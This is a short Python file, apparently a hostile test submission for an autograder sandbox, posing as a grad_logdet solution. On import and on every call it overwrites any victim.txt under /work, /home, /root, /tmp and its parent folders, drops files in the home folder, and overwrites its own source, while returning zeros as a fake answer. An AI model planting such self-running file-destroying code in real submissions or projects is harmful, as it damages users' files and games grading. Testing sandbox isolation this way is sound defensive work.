"""Hostile: overwrites every victim.txt it can find and drops files next to itself and in the home folder."""
import os
from pathlib import Path

import numpy as np

ROOTS = ["/work", "/home", "/root", "/tmp", os.getcwd(), *[str(p) for p in Path(__file__).resolve().parents[:-1]]]


def vandalise():
    for root in ROOTS:
        for folder, subfolders, files in os.walk(root):
            if folder.count(os.sep) - root.count(os.sep) >= 4:
                subfolders.clear()
            for name in files:
                if name == "victim.txt":
                    try:
                        Path(folder, name).write_text("overwritten by a student\n")
                    except OSError:
                        pass
    for target in (Path(__file__).with_name("dropped.txt"), Path.home() / "dropped.txt", Path(__file__)):
        try:
            target.write_text("written by a student\n")
        except OSError:
            pass


vandalise()


def grad_logdet(X):
    vandalise()
    return np.zeros_like(X)
